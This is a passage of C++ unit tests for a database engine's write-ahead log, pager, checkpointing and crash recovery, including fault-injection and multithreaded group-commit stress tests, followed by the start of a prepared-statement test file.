  EXPECT_EQ(back.lsn, 7u);
  EXPECT_EQ(back.type, wal::RecordType::kCommit);
  EXPECT_EQ(back.txn_id, 42u);
  ASSERT_EQ(back.ops.size(), 3u);
  EXPECT_EQ(back.ops[0].kind, wal::RedoOp::Kind::kInsert);
  EXPECT_EQ(back.ops[0].table, "t1");
  EXPECT_EQ(back.ops[0].slot, 3u);
  ASSERT_EQ(back.ops[0].row.size(), 3u);
  EXPECT_EQ(back.ops[0].row[1].as_string(), "a b\nc:d");
  EXPECT_TRUE(back.ops[0].row[2].is_null());
  ASSERT_EQ(back.ops[1].changes.size(), 2u);
  EXPECT_EQ(back.ops[1].changes[1].first, 2u);
  EXPECT_EQ(back.ops[2].kind, wal::RedoOp::Kind::kDelete);
}

TEST(WalCodec, DdlAndRollbackRecordsRoundTrip) {
  wal::WalRecord rec;
  rec.lsn = 1;
  rec.type = wal::RecordType::kDdl;
  rec.txn_id = 5;
  wal::DdlRedo d;
  d.kind = wal::DdlRedo::Kind::kCreateIndex;
  d.table = "users";
  d.index = "idx_name";
  d.column = "name";
  rec.ddl.push_back(d);
  wal::DdlUndoRedo u;
  u.kind = wal::DdlUndoRedo::Kind::kRestoreTable;
  u.table = "users";
  u.snapshot = "T users\nC id INT p\n.\n";
  rec.ddl_undo.push_back(u);

  wal::WalRecord back;
  ASSERT_TRUE(wal::decode_record(wal::encode_record(rec), back));
  ASSERT_EQ(back.ddl.size(), 1u);
  EXPECT_EQ(back.ddl[0].kind, wal::DdlRedo::Kind::kCreateIndex);
  EXPECT_EQ(back.ddl[0].column, "name");
  ASSERT_EQ(back.ddl_undo.size(), 1u);
  EXPECT_EQ(back.ddl_undo[0].snapshot, u.snapshot);
}

TEST(WalCodec, RejectsGarbageAndTrailingBytes) {
  wal::WalRecord out;
  EXPECT_FALSE(wal::decode_record("", out));
  EXPECT_FALSE(wal::decode_record("not a record", out));
  wal::WalRecord rec;
  rec.lsn = 1;
  std::string payload = wal::encode_record(rec);
  EXPECT_TRUE(wal::decode_record(payload, out));
  EXPECT_FALSE(wal::decode_record(payload + " trailing", out));
}

// ------------------------------------------------------- writer + salvage

TEST_F(DurableDirTest, WriterAppendsAndScanReadsBack) {
  std::string dir = make_dir("writer");
  std::filesystem::create_directories(dir);
  std::string path = dir + "/wal.log";
  {
    wal::WalWriter w(path, 1, 0);
    for (int i = 0; i < 5; ++i) {
      wal::WalRecord rec;
      rec.type = wal::RecordType::kCommit;
      rec.ops.push_back(wal::RedoOp::erase("t", static_cast<size_t>(i)));
      EXPECT_EQ(w.append(std::move(rec)), static_cast<uint64_t>(i + 1));
    }
    w.sync_all();
    EXPECT_EQ(w.last_lsn(), 5u);
  }
  wal::WalScan scan = wal::scan_wal(path);
  EXPECT_TRUE(scan.header_ok);
  EXPECT_EQ(scan.start_lsn, 1u);
  ASSERT_EQ(scan.records.size(), 5u);
  EXPECT_EQ(scan.records[4].lsn, 5u);
  EXPECT_EQ(scan.torn_bytes, 0u);
}

TEST_F(DurableDirTest, SalvageScanStopsAtTornTailAndWriterTruncatesIt) {
  std::string dir = make_dir("torn");
  std::filesystem::create_directories(dir);
  std::string path = dir + "/wal.log";
  {
    wal::WalWriter w(path, 1, 0);
    for (int i = 0; i < 3; ++i) {
      wal::WalRecord rec;
      rec.ops.push_back(wal::RedoOp::erase("t", 0));
      w.append(std::move(rec));
    }
    w.sync_all();
  }
  // Tear: append half a bogus frame, as a crashed writer would leave.
  {
    std::ofstream out(path, std::ios::binary | std::ios::app);
    out.write("\x40\x00\x00\x00junkjunk", 12);
  }
  wal::WalScan scan = wal::scan_wal(path);
  EXPECT_TRUE(scan.header_ok);
  EXPECT_EQ(scan.records.size(), 3u);
  EXPECT_EQ(scan.torn_bytes, 12u);

  // Reopening at the salvage point drops the tail; appends continue the
  // LSN sequence seamlessly.
  {
    wal::WalWriter w(path, scan.start_lsn + scan.records.size(),
                     scan.valid_bytes);
    wal::WalRecord rec;
    rec.ops.push_back(wal::RedoOp::erase("t", 1));
    EXPECT_EQ(w.append(std::move(rec)), 4u);
    w.sync_all();
  }
  scan = wal::scan_wal(path);
  EXPECT_EQ(scan.records.size(), 4u);
  EXPECT_EQ(scan.torn_bytes, 0u);
}

TEST_F(DurableDirTest, RotateStartsFreshLogContinuingLsnSequence) {
  std::string dir = make_dir("rotate");
  std::filesystem::create_directories(dir);
  std::string path = dir + "/wal.log";
  wal::WalWriter w(path, 1, 0);
  for (int i = 0; i < 4; ++i) {
    wal::WalRecord rec;
    rec.ops.push_back(wal::RedoOp::erase("t", 0));
    w.append(std::move(rec));
  }
  w.rotate();
  wal::WalRecord rec;
  rec.ops.push_back(wal::RedoOp::erase("t", 0));
  EXPECT_EQ(w.append(std::move(rec)), 5u);
  w.sync_all();
  wal::WalScan scan = wal::scan_wal(path);
  EXPECT_TRUE(scan.header_ok);
  EXPECT_EQ(scan.start_lsn, 5u);
  ASSERT_EQ(scan.records.size(), 1u);
  EXPECT_EQ(scan.records[0].lsn, 5u);
}

// ------------------------------------------------------------------ pager

TEST_F(DurableDirTest, PagedFileRoundTripsContentAndMeta) {
  std::string dir = make_dir("pager");
  std::filesystem::create_directories(dir);
  std::string path = dir + "/tables.pg";
  // Content spanning several pages, all byte values.
  std::string content;
  for (int i = 0; i < 3 * static_cast<int>(wal::kPagePayload) + 100; ++i) {
    content.push_back(static_cast<char>(i % 251));
  }
  common::write_file_raw(path, wal::encode_paged(content, 77, 9));
  wal::PageCache cache(8);
  wal::PagedFile pf(path, &cache);
  EXPECT_EQ(pf.meta().checkpoint_lsn, 77u);
  EXPECT_EQ(pf.meta().ddl_version, 9u);
  EXPECT_EQ(pf.read_all(), content);
  // Second read_all: every page is a cache hit.
  wal::PageCacheStats before = cache.stats();
  EXPECT_EQ(pf.read_all(), content);
  wal::PageCacheStats after = cache.stats();
  EXPECT_EQ(after.misses, before.misses);
  EXPECT_GT(after.hits, before.hits);
}

TEST_F(DurableDirTest, PagedFileRejectsCorruptPage) {
  std::string dir = make_dir("pgcorrupt");
  std::filesystem::create_directories(dir);
  std::string path = dir + "/tables.pg";
  std::string image = wal::encode_paged(std::string(5000, 'x'), 1, 1);
  // Flip a byte in the middle of page 1's payload.
  image[wal::kPageSize + 100] ^= 0x5a;
  common::write_file_raw(path, image);
  wal::PagedFile pf(path, nullptr);
  EXPECT_THROW(pf.read_all(), wal::WalError);
}

TEST(PageCache, LruEvictsOldestPage) {
  wal::PageCache cache(2);
  cache.put(1, "a");
  cache.put(2, "b");
  EXPECT_NE(cache.get(1), nullptr);  // 1 is now most-recent
  cache.put(3, "c");                 // evicts 2
  EXPECT_EQ(cache.get(2), nullptr);
  ASSERT_NE(cache.get(1), nullptr);
  EXPECT_EQ(*cache.get(1), "a");
  EXPECT_NE(cache.get(3), nullptr);
  EXPECT_EQ(cache.stats().evictions, 1u);
}

// -------------------------------------------------------- catalog codec

TEST(CheckpointCodec, PreservesSlotsHolesAutoIncrementAndIndexes) {
  storage::Catalog cat;
  storage::Table& t = cat.create_table(storage::TableSchema(
      "users", {storage::ColumnDef{"id", storage::ColumnType::kInt, true,
                                   true, true, std::nullopt},
                storage::ColumnDef{"name", storage::ColumnType::kText, false,
                                   false, false,
                                   std::optional<sql::Value>(
                                       sql::Value(std::string("anon")))}}));
  t.insert({sql::Value::null(), sql::Value(std::string("a"))});  // slot 0
  t.insert({sql::Value::null(), sql::Value(std::string("b"))});  // slot 1
  t.insert({sql::Value::null(), sql::Value(std::string("c"))});  // slot 2
  t.erase(1);                                                // hole at slot 1
  t.create_index("idx_name", "name");

  std::string content = wal::DurableStorage::encode_catalog(cat);
  storage::Catalog back;
  wal::DurableStorage::decode_catalog(content, back);
  storage::Table* bt = back.find("users");
  ASSERT_NE(bt, nullptr);
  EXPECT_EQ(bt->slot_count(), 3u);  // numbering preserved, hole included
  EXPECT_EQ(bt->row_count(), 2u);
  EXPECT_FALSE(bt->slot_live(1));
  EXPECT_TRUE(bt->slot_live(2));
  EXPECT_EQ(bt->next_auto_increment(), t.next_auto_increment());
  ASSERT_EQ(bt->index_defs().size(), 1u);
  // The next insert lands at slot 3 with id 4 — identical on both sides.
  auto orig = t.insert({sql::Value::null(), sql::Value(std::string("d"))});
  auto replayed =
      bt->insert({sql::Value::null(), sql::Value(std::string("d"))});
  EXPECT_EQ(orig.slot, replayed.slot);
  EXPECT_EQ(orig.pk_value.repr(), replayed.pk_value.repr());
}

TEST(CheckpointCodec, RejectsCorruptContent) {
  storage::Catalog cat;
  cat.create_table(storage::TableSchema(
      "t", {storage::ColumnDef{"id", storage::ColumnType::kInt, true, true,
                               false, std::nullopt}}));
  std::string content = wal::DurableStorage::encode_catalog(cat);
  storage::Catalog back;
  EXPECT_THROW(wal::DurableStorage::decode_catalog("9 9 junk", back),
               wal::WalError);
  EXPECT_THROW(
      wal::DurableStorage::decode_catalog(content + " trailing", back),
      wal::WalError);
}

// ------------------------------------------------- engine: reopen survives

TEST_F(DurableDirTest, DmlSurvivesReopen) {
  std::string dir = make_dir("dml");
  {
    Database db(dir_opts(dir));
    db.execute_admin(
        "CREATE TABLE kv (id INT PRIMARY KEY AUTO_INCREMENT, v TEXT)");
    db.execute_admin("INSERT INTO kv (v) VALUES ('one'), ('two'), ('three')");
    db.execute_admin("UPDATE kv SET v = 'TWO' WHERE id = 2");
    db.execute_admin("DELETE FROM kv WHERE id = 1");
  }
  Database db(dir_opts(dir));
  EXPECT_TRUE(db.recovery_report().records_scanned > 0);
  auto rs = db.execute_admin("SELECT id, v FROM kv ORDER BY id");
  ASSERT_EQ(rs.rows.size(), 2u);
  EXPECT_EQ(rs.rows[0][1].as_string(), "TWO");
  EXPECT_EQ(rs.rows[1][1].as_string(), "three");
  // Auto-increment continues where it left off, never reusing id 3.
  db.execute_admin("INSERT INTO kv (v) VALUES ('four')");
  EXPECT_EQ(db.execute_admin("SELECT MAX(id) FROM kv").rows[0][0].as_int(), 4);
}

TEST_F(DurableDirTest, DdlSurvivesReopen) {
  std::string dir = make_dir("ddl");
  {
    Database db(dir_opts(dir));
    db.execute_admin("CREATE TABLE a (id INT PRIMARY KEY, x TEXT)");
    db.execute_admin("CREATE TABLE b (id INT PRIMARY KEY)");
    db.execute_admin("INSERT INTO a VALUES (1, 'keep')");
    db.execute_admin("CREATE INDEX idx_x ON a (x)");
    db.execute_admin("DROP TABLE b");
    db.execute_admin("CREATE TABLE c (id INT PRIMARY KEY)");
    db.execute_admin("INSERT INTO c VALUES (9)");
    db.execute_admin("TRUNCATE TABLE c");
  }
  Database db(dir_opts(dir));
  EXPECT_EQ(db.catalog().find("b"), nullptr);
  ASSERT_NE(db.catalog().find("a"), nullptr);
  EXPECT_EQ(db.catalog().find("a")->index_defs().size(), 1u);
  EXPECT_EQ(db.execute_admin("SELECT COUNT(*) FROM c").rows[0][0].as_int(), 0);
  EXPECT_EQ(db.execute_admin("SELECT x FROM a WHERE id = 1").rows[0][0]
                .as_string(),
            "keep");
}

TEST_F(DurableDirTest, CommittedTransactionSurvivesUncommittedDoesNot) {
  std::string dir = make_dir("txn");
  {
    Database db(dir_opts(dir));
    Session s1("alice"), s2("bob");
    db.execute_admin("CREATE TABLE kv (id INT PRIMARY KEY, v TEXT)");
    db.execute(s1, "BEGIN");
    db.execute(s1, "INSERT INTO kv VALUES (1, 'committed')");
    db.execute(s1, "COMMIT");
    // s2's transaction never commits: its buffered writes must not be
    // logged, let alone replayed.
    db.execute(s2, "BEGIN");
    db.execute(s2, "INSERT INTO kv VALUES (2, 'in-flight')");
  }  // engine torn down with s2 open — same as a crash for its buffers
  Database db(dir_opts(dir));
  auto rs = db.execute_admin("SELECT id, v FROM kv ORDER BY id");
  ASSERT_EQ(rs.rows.size(), 1u);
  EXPECT_EQ(rs.rows[0][1].as_string(), "committed");
}

TEST_F(DurableDirTest, InFlightTransactionDdlIsUndoneOnRecovery) {
  std::string dir = make_dir("txnddl");
  {
    Database db(dir_opts(dir));
    Session s("alice");
    db.execute_admin("CREATE TABLE keep (id INT PRIMARY KEY)");
    db.execute(s, "BEGIN");
    db.execute(s, "CREATE TABLE temp_t (id INT PRIMARY KEY)");
    db.execute(s, "DROP TABLE keep");
    // No COMMIT, no ROLLBACK: the log ends with the kDdl records of an
    // unfinished transaction.
  }
  Database db(dir_opts(dir));
  EXPECT_EQ(db.recovery_report().txns_discarded, 1u);
  EXPECT_EQ(db.catalog().find("temp_t"), nullptr);  // CREATE undone
  EXPECT_NE(db.catalog().find("keep"), nullptr);    // DROP undone
}

TEST_F(DurableDirTest, RolledBackTransactionDdlStaysUndoneOnRecovery) {
  std::string dir = make_dir("rbddl");
  {
    Database db(dir_opts(dir));
    Session s("alice");
    db.execute_admin("CREATE TABLE keep (id INT PRIMARY KEY)");
    db.execute_admin("INSERT INTO keep VALUES (1)");
    db.execute(s, "BEGIN");
    db.execute(s, "DROP TABLE keep");
    db.execute(s, "CREATE TABLE temp_t (id INT PRIMARY KEY)");
    db.execute(s, "ROLLBACK");
  }
  Database db(dir_opts(dir));
  EXPECT_EQ(db.catalog().find("temp_t"), nullptr);
  ASSERT_NE(db.catalog().find("keep"), nullptr);
  EXPECT_EQ(db.execute_admin("SELECT COUNT(*) FROM keep").rows[0][0].as_int(),
            1);
}

TEST_F(DurableDirTest, PartialAutocommitEffectsAreReplayedExactly) {
  std::string dir = make_dir("partial");
  int64_t survived = 0;
  {
    Database db(dir_opts(dir));
    db.execute_admin("CREATE TABLE kv (id INT PRIMARY KEY, v TEXT)");
    db.execute_admin("INSERT INTO kv VALUES (5, 'old')");
    // Multi-row insert that trips a duplicate-key constraint midway: the
    // engine keeps the partial prefix (MySQL legacy), so the log must too.
    EXPECT_THROW(db.execute_admin(
                     "INSERT INTO kv VALUES (1, 'a'), (2, 'b'), (5, 'dup'), "
                     "(3, 'c')"),
                 DbError);
    survived =
        db.execute_admin("SELECT COUNT(*) FROM kv").rows[0][0].as_int();
    EXPECT_EQ(survived, 3);  // 5, 1, 2
  }
  Database db(dir_opts(dir));
  EXPECT_EQ(db.execute_admin("SELECT COUNT(*) FROM kv").rows[0][0].as_int(),
            survived);
}

TEST_F(DurableDirTest, CheckpointFoldsLogAndReopenSkipsReplay) {
  std::string dir = make_dir("ckpt");
  {
    Database db(dir_opts(dir));
    db.execute_admin("CREATE TABLE kv (id INT PRIMARY KEY, v TEXT)");
    for (int i = 0; i < 20; ++i) {
      db.execute_admin("INSERT INTO kv VALUES (" + std::to_string(i) +
                       ", 'v')");
    }
    db.checkpoint_now();
    wal::DurabilityStats st = db.durability_stats();
    EXPECT_EQ(st.checkpoints, 1u);
    EXPECT_EQ(st.wal.rotations, 1u);
    EXPECT_GT(st.last_checkpoint_lsn, 0u);
    // Post-checkpoint writes land in the fresh log.
    db.execute_admin("INSERT INTO kv VALUES (100, 'after')");
  }
  Database db(dir_opts(dir));
  const wal::RecoveryReport& rep = db.recovery_report();
  EXPECT_TRUE(rep.checkpoint_loaded);
  EXPECT_EQ(rep.records_skipped, 0u);   // rotation emptied the old log
  EXPECT_EQ(rep.commits_replayed, 1u);  // just the post-checkpoint insert
  EXPECT_EQ(db.execute_admin("SELECT COUNT(*) FROM kv").rows[0][0].as_int(),
            21);
}

TEST_F(DurableDirTest, CheckpointReusesCleanTableBlocks) {
  std::string dir = make_dir("blocks");
  Database db(dir_opts(dir));
  db.execute_admin("CREATE TABLE hot (id INT PRIMARY KEY)");
  db.execute_admin("CREATE TABLE cold (id INT PRIMARY KEY)");
  db.execute_admin("INSERT INTO cold VALUES (1)");
  db.checkpoint_now();
  // Touch only `hot`; the next checkpoint re-serializes it but reuses
  // cold's cached block.
  db.execute_admin("INSERT INTO hot VALUES (1)");
  db.checkpoint_now();
  wal::DurabilityStats st = db.durability_stats();
  EXPECT_EQ(st.checkpoints, 2u);
  EXPECT_GE(st.checkpoint_tables_reused, 1u);
  // And the reused block is byte-correct: reopen sees both tables.
  db.sync_durable();
}

TEST_F(DurableDirTest, CheckpointDefersWhileTransactionHoldsDdlUndo) {
  std::string dir = make_dir("defer");
  Database db(dir_opts(dir));
  Session s("alice");
  db.execute_admin("CREATE TABLE kv (id INT PRIMARY KEY)");
  db.execute(s, "BEGIN");
  db.execute(s, "CREATE TABLE temp_t (id INT PRIMARY KEY)");
  EXPECT_THROW(db.checkpoint_now(), DbError);
  db.execute(s, "ROLLBACK");
  db.checkpoint_now();  // unblocked
  EXPECT_EQ(db.durability_stats().checkpoints, 1u);
}

TEST_F(DurableDirTest, TornWalTailIsDroppedOnRecovery) {
  std::string dir = make_dir("tornboot");
  {
    Database db(dir_opts(dir));
    db.execute_admin("CREATE TABLE kv (id INT PRIMARY KEY)");
    db.execute_admin("INSERT INTO kv VALUES (1)");
  }
  {
    std::ofstream out(dir + "/wal.log", std::ios::binary | std::ios::app);
    out.write("\x30\x00\x00\x00torn", 8);
  }
  Database db(dir_opts(dir));
  EXPECT_GT(db.recovery_report().wal_torn_bytes, 0u);
  EXPECT_EQ(db.execute_admin("SELECT COUNT(*) FROM kv").rows[0][0].as_int(),
            1);
  // The engine stays fully writable after salvage.
  db.execute_admin("INSERT INTO kv VALUES (2)");
}

TEST_F(DurableDirTest, CorruptCheckpointFailsBootAllOrNothing) {
  std::string dir = make_dir("corruptpg");
  {
    Database db(dir_opts(dir));
    db.execute_admin("CREATE TABLE kv (id INT PRIMARY KEY)");
    db.checkpoint_now();
  }
  // Smash the checkpoint header. Boot must throw RECOVERY, not limp on.
  {
    std::fstream f(dir + "/tables.pg",
                   std::ios::binary | std::ios::in | std::ios::out);
    f.seekp(0);
    f.write("XXXX", 4);
  }
  try {
    Database db(dir_opts(dir));
    FAIL() << "boot on a corrupt checkpoint must throw";
  } catch (const DbError& e) {
    EXPECT_EQ(e.code(), ErrorCode::kRecovery);
  }
}

TEST_F(DurableDirTest, RelaxedModeLogsWithoutPerCommitFsync) {
  std::string dir = make_dir("relaxed");
  {
    Database db(dir_opts(dir, wal::DurabilityMode::kRelaxed));
    db.execute_admin("CREATE TABLE kv (id INT PRIMARY KEY)");
    for (int i = 0; i < 10; ++i) {
      db.execute_admin("INSERT INTO kv VALUES (" + std::to_string(i) + ")");
    }
    wal::DurabilityStats st = db.durability_stats();
    EXPECT_EQ(st.wal.appends, 11u);    // 1 DDL + 10 commits
    EXPECT_EQ(st.wal.sync_calls, 0u);  // no per-commit barrier
  }  // destructor syncs
  Database db(dir_opts(dir, wal::DurabilityMode::kRelaxed));
  EXPECT_EQ(db.execute_admin("SELECT COUNT(*) FROM kv").rows[0][0].as_int(),
            10);
}

TEST_F(DurableDirTest, VolatileDatabaseHasNoDurabilityFootprint) {
  Database db;  // the default ctor: exactly the pre-PR7 engine
  EXPECT_FALSE(db.durable());
  db.execute_admin("CREATE TABLE kv (id INT PRIMARY KEY)");
  db.execute_admin("INSERT INTO kv VALUES (1)");
  wal::DurabilityStats st = db.durability_stats();
  EXPECT_EQ(st.mode, wal::DurabilityMode::kOff);
  EXPECT_EQ(st.wal.appends, 0u);
  db.checkpoint_now();  // no-op, no throw
  db.sync_durable();    // no-op, no throw
}

// ------------------------------------- durability-plane fault regressions

// A checkpoint's watermark can cover appended-but-unfsynced records
// (ack_sync runs outside the locks checkpoint takes), so a power loss can
// tear frames the checkpoint already folded in. Recovery must then resume
// LSNs ABOVE the watermark — resuming at the salvaged LSN would reuse
// LSNs the checkpoint claims as folded, and the next recovery would
// silently skip freshly fsync-acked commits.
TEST_F(DurableDirTest, RecoveryNeverResumesLsnsBelowCheckpointWatermark) {
  std::string dir = make_dir("lsnclamp");
  std::filesystem::create_directories(dir);
  // Model the survivor state directly: checkpoint at watermark 10, log
  // salvageable only through LSN 5 (6..10 lost with the torn tail).
  storage::Catalog cat;
  cat.create_table(storage::TableSchema(
      "kv", {storage::ColumnDef{"id", storage::ColumnType::kInt, true, true,
                                false, std::nullopt}}));
  common::write_file_raw(
      dir + "/tables.pg",
      wal::encode_paged(wal::DurableStorage::encode_catalog(cat), 10, 0));
  {
    wal::WalWriter w(dir + "/wal.log", 1, 0);
    for (int i = 0; i < 5; ++i) {
      wal::WalRecord rec;
      rec.type = wal::RecordType::kCommit;
      rec.ops.push_back(wal::RedoOp::erase("kv", 0));
      w.append(std::move(rec));
    }
    w.sync_all();
  }
  {
    wal::DurableStorage ds(dir_opts(dir));
    storage::Catalog booted;
    wal::RecoveryReport rep = ds.recover_into(booted);
    EXPECT_EQ(rep.checkpoint_lsn, 10u);
    EXPECT_EQ(rep.records_scanned, 5u);
    EXPECT_EQ(rep.records_skipped, 5u);
    auto res = booted.find("kv")->insert({sql::Value(int64_t{1})});
    uint64_t lsn = ds.log_commit(
        0, {wal::RedoOp::insert("kv", res.slot, {sql::Value(int64_t{1})})});
    EXPECT_EQ(lsn, 11u);  // above the watermark, never 6
    ds.ack_sync(lsn);
  }
  // The acked commit replays on the next boot instead of being skipped as
  // "already covered by the checkpoint".
  wal::DurableStorage ds(dir_opts(dir));
  storage::Catalog booted;
  wal::RecoveryReport rep = ds.recover_into(booted);
  EXPECT_EQ(rep.commits_replayed, 1u);
  EXPECT_EQ(rep.records_skipped, 0u);
  EXPECT_EQ(booted.find("kv")->row_count(), 1u);
}

TEST_F(DurableDirTest, FailedAppendRewindsPartialFrameAndPoisonsUntilRotate) {
  if (!fp::compiled_in()) GTEST_SKIP() << "failpoints compiled out";
  std::string dir = make_dir("poison");
  std::filesystem::create_directories(dir);
  std::string path = dir + "/wal.log";
  wal::WalWriter w(path, 1, 0);
  auto make_rec = [] {
    wal::WalRecord r;
    r.type = wal::RecordType::kCommit;
    r.ops.push_back(wal::RedoOp::erase("t", 0));
    return r;
  };
  EXPECT_EQ(w.append(make_rec()), 1u);
  w.sync_all();

  // I/O error after half the frame reached the file: the bytes must be
  // rewound, not left as garbage for later appends to bury (salvage would
  // stop there and discard every later record as torn).
  fp::arm("wal.append.io_error", 1);
  EXPECT_THROW(w.append(make_rec()), wal::WalError);
  fp::disarm_all();
  wal::WalScan scan = wal::scan_wal(path);
  EXPECT_EQ(scan.records.size(), 1u);
  EXPECT_EQ(scan.torn_bytes, 0u);  // partial frame rewound

  // Poisoned: the mutation the failed record described applied in memory
  // but is not on the log, so nothing newer may be logged either.
  EXPECT_TRUE(w.poisoned());
  EXPECT_THROW(w.append(make_rec()), wal::WalError);

  // rotate() — the checkpoint path — heals; the failed append burned no
  // LSN.
  w.rotate();
  EXPECT_FALSE(w.poisoned());
  EXPECT_EQ(w.append(make_rec()), 2u);
  w.sync_all();
  scan = wal::scan_wal(path);
  EXPECT_TRUE(scan.header_ok);
  EXPECT_EQ(scan.start_lsn, 2u);
  ASSERT_EQ(scan.records.size(), 1u);
}

TEST_F(DurableDirTest, EngineHealsPoisonedWalWithCheckpointAndLosesNothing) {
  if (!fp::compiled_in()) GTEST_SKIP() << "failpoints compiled out";
  std::string dir = make_dir("heal");
  {
    Database db(dir_opts(dir));
    db.execute_admin("CREATE TABLE kv (id INT PRIMARY KEY)");
    db.execute_admin("INSERT INTO kv VALUES (1)");
    // The insert applies in memory (failed autocommit keeps its effects)
    // but its record dies mid-frame; the writer poisons itself.
    fp::arm("wal.append.io_error", 1);
    EXPECT_THROW(db.execute_admin("INSERT INTO kv VALUES (2)"),
                 wal::WalError);
    fp::disarm_all();
    EXPECT_EQ(db.execute_admin("SELECT COUNT(*) FROM kv").rows[0][0].as_int(),
              2);
    // The next write statement finds the poisoned writer, runs the
    // healing checkpoint (folding rows 1 AND 2 into a durable image),
    // and then proceeds normally.
    db.execute_admin("INSERT INTO kv VALUES (3)");
    EXPECT_GE(db.durability_stats().checkpoints, 1u);
  }
  Database db(dir_opts(dir));
  auto rs = db.execute_admin("SELECT id FROM kv ORDER BY id");
  ASSERT_EQ(rs.rows.size(), 3u);
  EXPECT_EQ(rs.rows[1][0].as_int(), 2);  // the unlogged row survived
}

TEST_F(DurableDirTest, DirFsyncFailureAbortsCheckpointBeforeRotate) {
  if (!fp::compiled_in()) GTEST_SKIP() << "failpoints compiled out";
  std::string dir = make_dir("dirfsync");
  {
    Database db(dir_opts(dir));
    db.execute_admin("CREATE TABLE kv (id INT PRIMARY KEY)");
    db.execute_admin("INSERT INTO kv VALUES (1)");
    fp::arm("checkpoint.dir_fsync_fail", 1);
    EXPECT_THROW(db.checkpoint_now(), DbError);
    fp::disarm_all();
    // The WAL must NOT have rotated: had it, a power loss that surfaced
    // the un-fsynced directory (old checkpoint) next to the emptied log
    // would lose everything since the previous checkpoint.
    wal::DurabilityStats st = db.durability_stats();
    EXPECT_EQ(st.wal.rotations, 0u);
    EXPECT_EQ(st.checkpoints, 0u);
    // The engine keeps running and a later checkpoint succeeds.
    db.execute_admin("INSERT INTO kv VALUES (2)");
    db.checkpoint_now();
    EXPECT_EQ(db.durability_stats().checkpoints, 1u);
  }
  Database db(dir_opts(dir));
  EXPECT_EQ(db.execute_admin("SELECT COUNT(*) FROM kv").rows[0][0].as_int(),
            2);
}

TEST_F(DurableDirTest, LeavingDurabilityOffCheckpointsBeforeLogging) {
  std::string dir = make_dir("offon");
  {
    Database db(dir_opts(dir));
    db.execute_admin("CREATE TABLE kv (id INT PRIMARY KEY)");
    db.execute_admin("INSERT INTO kv VALUES (1)");
    // Populate the checkpoint block cache BEFORE the off-window: row 2
    // below never passes through mark_dirty, so the transition checkpoint
    // must invalidate (not reuse) kv's cached block.
    db.checkpoint_now();
    db.set_durability_mode(wal::DurabilityMode::kOff);
    // Never logged: only a checkpoint can make this row durable.
    db.execute_admin("INSERT INTO kv VALUES (2)");
    db.set_durability_mode(wal::DurabilityMode::kFull);
    EXPECT_GE(db.durability_stats().checkpoints, 2u);
    db.execute_admin("INSERT INTO kv VALUES (3)");
  }
  // Without the transition checkpoint, row 3's record (logged at slot 2)
  // would replay against a state missing row 2 — slot divergence fails
  // the boot, or worse, an acked commit lands on the wrong row.
  Database db(dir_opts(dir));
  auto rs = db.execute_admin("SELECT id FROM kv ORDER BY id");
  ASSERT_EQ(rs.rows.size(), 3u);
  EXPECT_EQ(rs.rows[1][0].as_int(), 2);
}

// ------------------------------------------------ group-commit stress (8t)

TEST_F(DurableDirTest, GroupCommitStressReconcilesExactly) {
  const int kThreads = 8;
  const int kTxnsPerThread = 10;      // BEGIN; INSERT; COMMIT
  const int kAutocommitPerThread = 20;
  std::string dir = make_dir("stress");
  {
    Database db(dir_opts(dir));  // full durability: every commit fsyncs
    db.execute_admin(
        "CREATE TABLE kv (id INT PRIMARY KEY AUTO_INCREMENT, owner INT)");
    std::vector<std::thread> threads;
    std::atomic<int> errors{0};
    threads.reserve(kThreads);
    for (int t = 0; t < kThreads; ++t) {
      threads.emplace_back([&db, &errors, t] {
        Session s("worker" + std::to_string(t));
        try {
          for (int i = 0; i < kTxnsPerThread; ++i) {
            db.execute(s, "BEGIN");
            db.execute(s, "INSERT INTO kv (owner) VALUES (" +
                              std::to_string(t) + ")");
            db.execute(s, "COMMIT");
          }
          for (int i = 0; i < kAutocommitPerThread; ++i) {
            db.execute(s, "INSERT INTO kv (owner) VALUES (" +
                              std::to_string(t) + ")");
          }
        } catch (const std::exception&) {
          errors.fetch_add(1);
        }
      });
    }
    for (auto& th : threads) th.join();
    ASSERT_EQ(errors.load(), 0);

    const int total_rows = kThreads * (kTxnsPerThread + kAutocommitPerThread);
    // Transaction counters reconcile exactly.
    engine::txn::TxnStats ts = db.txn_stats();
    EXPECT_EQ(ts.begun, static_cast<uint64_t>(kThreads * kTxnsPerThread));
    EXPECT_EQ(ts.committed, ts.begun);
    EXPECT_EQ(ts.rolled_back, 0u);
    // Durability counters reconcile exactly: one record per DDL + one per
    // committed unit; one ack per record; every ack either led an fsync
    // or drafted behind one (the group-commit win).
    wal::DurabilityStats ds = db.durability_stats();
    EXPECT_EQ(ds.wal.appends, static_cast<uint64_t>(1 + total_rows));
    EXPECT_EQ(ds.wal.sync_calls, static_cast<uint64_t>(1 + total_rows));
    // Every acked commit either led an fsync or drafted behind one, and
    // nothing else fsyncs on this path — exact, not approximate.
    EXPECT_EQ(ds.wal.fsyncs, ds.wal.sync_calls - ds.wal.batched_syncs);
    EXPECT_EQ(db.execute_admin("SELECT COUNT(*) FROM kv").rows[0][0].as_int(),
              total_rows);
  }
  // Recovery replays the full interleaving, byte-exact.
  Database db(dir_opts(dir));
  const int total_rows = kThreads * (kTxnsPerThread + kAutocommitPerThread);
  EXPECT_EQ(db.execute_admin("SELECT COUNT(*) FROM kv").rows[0][0].as_int(),
            total_rows);
  for (int t = 0; t < kThreads; ++t) {
    EXPECT_EQ(db.execute_admin("SELECT COUNT(*) FROM kv WHERE owner = " +
                               std::to_string(t))
                  .rows[0][0]
                  .as_int(),
              kTxnsPerThread + kAutocommitPerThread);
  }
  // Primary keys are unique (enforced) and dense: ids are 1..total.
  EXPECT_EQ(db.execute_admin("SELECT MAX(id) FROM kv").rows[0][0].as_int(),
            total_rows);
  EXPECT_EQ(db.execute_admin("SELECT MIN(id) FROM kv").rows[0][0].as_int(),
            1);
}

}  // namespace
}  // namespace septic

#include <gtest/gtest.h>

#include "engine/database.h"
#include "engine/error.h"
#include "septic/septic.h"

namespace septic::engine {
namespace {

using sql::Value;

class PreparedTest : public ::testing::Test {
 protected:
  void SetUp() override {
    db.execute_admin(
        "CREATE TABLE p (id INT PRIMARY KEY AUTO_INCREMENT, name TEXT, "
        "amount INT)");
    db.execute_admin("INSERT INTO p (name, amount) VALUES ('a', 10), "
                     "('b', 20)");
  }

  Database db;
  Session session;
};

TEST_F(PreparedTest, SelectWithBoundParams) {
  auto rs = db.execute_prepared(session,
                                "SELECT amount FROM p WHERE name = ?",
                                {Value(std::string("b"))});
  ASSERT_EQ(rs.rows.size(), 1u);
